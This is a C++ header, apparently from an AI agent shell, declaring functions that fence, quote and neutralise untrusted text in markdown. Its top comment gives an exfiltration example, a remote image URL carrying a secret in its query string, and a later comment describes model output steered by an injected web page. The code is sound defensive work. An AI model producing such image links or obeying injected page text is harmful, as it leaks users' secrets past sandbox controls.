#pragma once
// Markdown the agent makes from text it did not write (a block's output, the model's code, a file's contents), so
// that the text stays inside its fence: output that closes a fixed ``` fence can add its own markdown after it, a
// remote image that a client fetches on display (`![status](http://host/?d=<secret>)`), a way out that the
// sandbox's policy never sees (issue 34, finding 6).
//
// Pure: no I/O.

#include <string>
#include <string_view>

namespace oishell {

// A backtick fence longer than any run of backticks in `text` (at least three): no line of `text` can close it.
[[nodiscard]] std::string fence_for(std::string_view text);

// `text` in a fenced code block with `info` (a language) on its opening line; ends with the closing fence.
[[nodiscard]] std::string fenced_markdown(std::string_view info, std::string_view text);

// For text streamed into a ``` fence opened before the text is known (the OI server's chat stream): a line that
// starts, after at most three spaces, with a backtick gets spaces enough to be indented four, and a line indented
// four spaces or more never closes a fence (CommonMark 4.5). Every other byte passes as it came. One per fenced
// block; feed its chunks in order.
class FencedStream {
 public:
  [[nodiscard]] std::string feed(std::string_view chunk);

 private:
  bool at_line_start_ = true;
  int leading_spaces_ = 0;  // of the current line, while it has shown only spaces
};

// For markdown prose whose author may not be trusted (the model's, steered by a page it read): every image
// `![alt](...)` becomes `!\[alt](...)` and every HTML `<img` becomes `&lt;img`, both drawn as the characters,
// fetching nothing; links stay (a person must click one). Streams: a trailing `!` or start of `<img` is held back
// until the next chunk shows what follows it.
class ImageBreaker {
 public:
  [[nodiscard]] std::string feed(std::string_view chunk);
  [[nodiscard]] std::string finish();  // what was held back, at the end of the prose

 private:
  std::string held_;
};

// `text` as a markdown quote: every line starts with "> " (a line of its own cannot leave the quote), images drawn
// as text (ImageBreaker), CRs dropped. No trailing newline.
[[nodiscard]] std::string quoted_markdown(std::string_view text);

}  // namespace oishell
